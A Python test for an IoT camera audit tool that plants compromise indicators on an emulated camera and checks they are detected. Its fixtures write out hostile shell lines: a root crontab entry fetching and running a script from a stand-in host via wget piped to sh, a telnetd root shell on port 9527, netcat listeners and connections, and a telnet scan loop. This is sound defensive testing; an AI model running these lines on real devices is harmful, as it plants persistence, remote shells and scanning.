"""The camera looks at itself: open as its vendor left it, with planted what a taken camera shows, and closed."""

import base64
import difflib
import gzip
import json
import os
import subprocess
from pathlib import Path

from lab import paths
from lab.lab import PROGRAM, SERVICE, Failed, Lab
from lab.machine import PAYLOAD_ADDRESS, PAYLOAD_PORT, Machine
from lab.owner import Owner
from lab.segment import ADDRESS, Segment

AUDIT_SECONDS = 300
MEMORY_KIB = 3 * 1024
REPORT = "/tmp/audit.json"
# Runs the audit and keeps the most memory that it had; its exit status is left in a file. In a shell of its own, whose jobs
# the console's shell does not tell of. One small program a look: more would take the camera from its own services.
MEASURED = (f"rm -f {REPORT}.*; ( {PROGRAM} audit --json >{REPORT} 2>{REPORT}.err & p=$!; "
            f"while grep VmHWM /proc/$p/status >>{REPORT}.memory 2>/dev/null; do usleep 20000; done; "
            f"wait $p; echo $? >{REPORT}.status )")
# The verdict of every rule on each camera, read by hand. A change must be read by somebody: LENSCAP_WRITE_SNAPSHOTS=1 writes
# them anew.
SNAPSHOTS = Path(__file__).parent / "snapshots"
# What the owner's closing answers, on cameras whose kernel filters; that of the firewall elsewhere stays a fail.
CLOSED = ("account.default", "account.service", "account.boot", "service.telnet", "start.telnet")
FIREWALLS = ("network.firewall", "network.exposed")

SCRIPT = "/etc/init.d/S99evil"
CRONTAB = "/etc/crontabs/root"
CRON_LINE = "*/5 * * * * wget -qO- http://198.51.100.9/x.sh | sh"
PEER_PORT = 4444
# Behind the host beside, which forwards nothing: whoever knocks there waits.
NOWHERE = "198.51.100"
KNOCKS = 24
# Shell lines, each with the rules that must find it and a word of the evidence. Their processes are no jobs of the console's
# shell.
EVILS = (
    ("a program that deleted itself", "cp /bin/busybox /tmp/sleep; (/tmp/sleep 9999 &); usleep 300000; rm /tmp/sleep",
     {"trace.deleted": "/tmp/sleep is deleted"}),
    ("a listener on 48101", "(nc -l -p 48101 </dev/null >/dev/null 2>&1 &)",
     {"trace.port": "48101", "network.drift": "48101"}),
    ("a shell on 9527", "telnetd -p 9527 -l /bin/sh",
     {"service.telnet": "9527", "network.drift": "9527"}),
    ("a line in the crontab", f"mkdir -p /etc/crontabs; echo '{CRON_LINE}' >>{CRONTAB}",
     {"start.download": CRONTAB, "start.drift": CRONTAB}),
    ("a start script in the overlay", f"printf '#!/bin/sh\\n: nothing\\n' >{SCRIPT}; chmod 755 {SCRIPT}",
     {"start.added": SCRIPT, "start.drift": SCRIPT}),
    ("a connection to a stranger", f"(sleep 9999 | nc {ADDRESS} {PEER_PORT} >/dev/null 2>&1 &)",
     {"network.peer": ADDRESS, "network.peer-drift": ADDRESS}),
    ("a scanner of telnet", f"ip route add {NOWHERE}.0/24 via {ADDRESS}; n=0; while [ $n -lt {KNOCKS} ]; do n=$((n + 1)); "
     f"(nc {NOWHERE}.$n 23 </dev/null >/dev/null 2>&1 &); done", {"trace.scan": "ports that are scanned"}),
)
# Python for the host beside: takes connections and holds them.
HOLD = ("import socket, sys\none = socket.create_server(('', int(sys.argv[1])))\nprint('there', flush=True)\n"
        "held = []\nwhile True: held.append(one.accept())\n")


class Listener:
    """Somebody on the host beside who waits for connections."""

    def __init__(self, segment: Segment):
        self.process = subprocess.Popen(
            ["ip", "netns", "exec", segment.name, "python3", "-c", HOLD, str(PEER_PORT)], stdout=subprocess.PIPE, text=True)

    def __enter__(self) -> "Listener":
        if self.process.stdout.readline() != "there\n":
            raise Failed("the host beside does not listen")
        return self

    def __exit__(self, *_) -> None:
        self.process.kill()
        self.process.wait()


class Report:
    """What one audit said."""

    def __init__(self, lab: Lab, machine: Machine):
        machine.check(MEASURED, AUDIT_SECONDS)
        status = int(machine.check(f"cat {REPORT}.status"))
        errors = machine.run(f"cat {REPORT}.err").output
        lab.check(status in (0, 1, 2), f"lenscap audit ended with {status}: {errors}")
        packed = machine.check(f"gzip -c {REPORT} | base64")
        self.json = json.loads(gzip.decompress(base64.b64decode(packed)))
        words = machine.run(f"cat {REPORT}.memory").output.split()
        self.memory_kib = max((int(word) for word in words if word.isdigit()), default=0)
        self.rules = {rule["id"]: rule for rule in self.json["rules"]}

    def verdict(self, rule: str) -> str:
        """Of one rule."""
        return self.rules[rule]["verdict"]

    def why(self, rule: str) -> str:
        """All evidence of one rule."""
        return "; ".join(f"{one['source']}: {one['text']}" for one in self.rules[rule]["evidence"])

    def say(self, lab: Lab, when: str) -> None:
        """The verdict of each rule, and the reason of each that is not well."""
        lab.say(f"{when}: {self.json['verdict']}, worst {self.json['worst']}, {self.memory_kib} KiB of memory at most")
        for verdict in ("pass", "notapplicable", "notchecked"):
            names = [name for name, rule in self.rules.items() if rule["verdict"] == verdict]
            if names:
                lab.say(f"  {verdict}: {' '.join(names)}")
        for verdict in ("error", "unknown", "fail"):
            for name, rule in self.rules.items():
                if rule["verdict"] == verdict:
                    lab.say(f"  {verdict}: {name}: {self.why(name)[:160]}")


def look(lab: Lab, machine: Machine, when: str) -> Report:
    """An audit, its verdicts as evidence; it keeps within its memory."""
    report = Report(lab, machine)
    report.say(lab, when)
    lab.check(0 < report.memory_kib <= MEMORY_KIB, f"the audit took {report.memory_kib} KiB")
    return report


def with_audit(lab: Lab, machine: Machine) -> None:
    """The program with the audit in the place of the package's, which has no room for it."""
    if machine.run(f"{PROGRAM} audit --help >/dev/null 2>&1").status == 0:
        return
    if not paths.with_audit(lab.variant.target).exists():
        raise Failed("neither has the package's program an audit nor is there another: `qemu/build.sh audit` builds it")
    machine.run(f"{SERVICE} stop", 60)
    # Beside the other: /tmp is in memory, and the audit tells of programs there.
    machine.check(f"nc {PAYLOAD_ADDRESS} {PAYLOAD_PORT} </dev/null >{PROGRAM}.new && "
                  f"chmod 755 {PROGRAM}.new && mv {PROGRAM}.new {PROGRAM} && sync", 120)
    machine.check(f"{SERVICE} start", 60)
    lab.say("the program with the audit is in the place of the package's")


def compare(variant: str, looks: dict[str, Report]) -> str:
    """What differs between the verdicts of these looks and those that were read by hand; empty if nothing does."""
    rows = [("", *looks)]
    rows += [(rule, *(report.verdict(rule) for report in looks.values())) for rule in next(iter(looks.values())).rules]
    found = "".join(" ".join(f"{cell:20}" for cell in row).rstrip() + "\n" for row in rows)
    file = SNAPSHOTS / f"{variant}.txt"
    if os.environ.get("LENSCAP_WRITE_SNAPSHOTS"):
        SNAPSHOTS.mkdir(exist_ok=True)
        file.write_text(found, encoding="utf-8")
    wanted = file.read_text(encoding="utf-8") if file.exists() else ""
    return "\n".join(difflib.unified_diff(wanted.splitlines(), found.splitlines(), "read by hand", "found", lineterm="", n=0))


def audited(lab: Lab) -> None:
    """`lenscap audit` tells an open camera from a closed one, and finds each evil that is planted on it."""
    variant = lab.variant
    program = paths.with_audit(variant.target)
    machine = lab.installed_machine(beside=True, payload=program if program.exists() else None)
    machine.boot()
    with_audit(lab, machine)
    lab.gateway.wait_online()
    owner = Owner(lab, machine)
    owner.wait_streaming()

    before = look(lab, machine, "open")
    # Variants whose vendor left telnet have its password too.
    left = ("account.default", "service.telnet", "start.telnet") if variant.telnet else ()
    for rule in (*left, *FIREWALLS):
        lab.check(before.verdict(rule) == "fail", f"open, {rule} is {before.verdict(rule)}: {before.why(rule)}")
    lab.check(before.json["verdict"] == "fail", "an open camera is not well")

    # What is there now is what later looks are compared with.
    machine.run(f"{PROGRAM} audit --accept --no-probe >/dev/null", AUDIT_SECONDS)

    with Listener(lab.beside()):
        for _, line, _ in EVILS:
            machine.check(line)
        machine.wait_for("netstat -ltn | grep -q ':48101 ' && netstat -ltn | grep -q ':9527 '", 20)
        # A camera that still starts them has no time for who asks its services.
        machine.wait_for(f"[ $(netstat -tn | grep -c SYN_SENT) -ge {KNOCKS} ]", 30)
        taken = look(lab, machine, "taken")
    for what, _, found in EVILS:
        for rule, word in found.items():
            lab.check(taken.verdict(rule) == "fail", f"{what}: {rule} is {taken.verdict(rule)}: {taken.why(rule)}")
            lab.check(word in taken.why(rule), f"{what}: {rule} does not name {word}: {taken.why(rule)}")
            lab.check(word not in before.why(rule), f"{rule} named {word} before it was there")
        lab.say(f"{what}: found by {', '.join(found)}")
    lab.check(taken.json["worst"] == "critical", f"the worst is {taken.json['worst']}")

    machine.check(f"rm {SCRIPT} {CRONTAB}; sync")
    since = lab.gateway.camera().get("since")
    machine.reboot()
    lab.gateway.wait_online(after=since)
    owner.wait_streaming()
    status, said = owner.close()
    lab.say(f"harden --apply ended with {status}: {said.splitlines()[-1]}")
    owner.wait_streaming()
    machine.run(f"{PROGRAM} audit --accept --no-probe >/dev/null", AUDIT_SECONDS)
    after = look(lab, machine, "closed")
    for rule in CLOSED + (() if variant.unfilter is None else FIREWALLS):
        lab.check(after.verdict(rule) != "fail", f"closed, {rule} still fails: {after.why(rule)}")
    for rule, was in before.rules.items():
        worse = was["verdict"] == "pass" and after.verdict(rule) == "fail"
        lab.check(not worse, f"closing made {rule} fail: {after.why(rule)}")
    for what, _, found in EVILS:
        for rule, word in found.items():
            lab.check(word not in after.why(rule), f"{what} is gone, and {rule} still names it: {after.why(rule)}")
    different = compare(variant.name, {"open": before, "taken": taken, "closed": after})
    lab.check(not different, f"other verdicts than were read by hand:\n{different}")
    machine.cut_power()
